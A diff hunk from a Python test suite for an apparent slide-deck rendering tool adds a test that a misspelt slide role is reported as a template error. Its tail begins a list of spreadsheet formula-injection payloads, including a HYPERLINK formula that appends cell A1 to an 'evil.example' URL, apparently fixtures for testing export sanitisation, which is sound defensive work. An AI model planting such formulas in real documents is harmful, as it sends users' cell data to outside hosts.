@@ -355,6 +355,23 @@ def test_an_invalid_slide_plan_names_the_template_and_the_slide(project: Path) -
     assert "rendered" not in message
 
 
+def test_a_misspelt_slide_role_is_a_plan_error(project: Path) -> None:
+    """A role is a SlideRole when the plan is validated, not a string found wanting later."""
+    from briefing.render.deck import plan_deck
+
+    folder = project / "templates/misspelt"
+    folder.mkdir()
+    (folder / "theme.yaml").write_text("name: Misspelt\nextends: default\n", encoding="utf-8")
+    (folder / "deck.yaml.j2").write_text(
+        "slides:\n  - role: contnet\n    title: [Why China, Now]\n", encoding="utf-8"
+    )
+    with pytest.raises(TemplateError) as caught:
+        plan_deck(None, resolve("misspelt", project), {})  # type: ignore[arg-type]
+    message = str(caught.value)
+    assert message.startswith("templates/misspelt/deck.yaml.j2:"), message
+    assert "slide 1 ('Why China'), role:" in message and "'content'" in message, message
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example","x")',
     '=HYPERLINK("http://evil.example/?"&A1,"Xiaohongshu") 小红书',
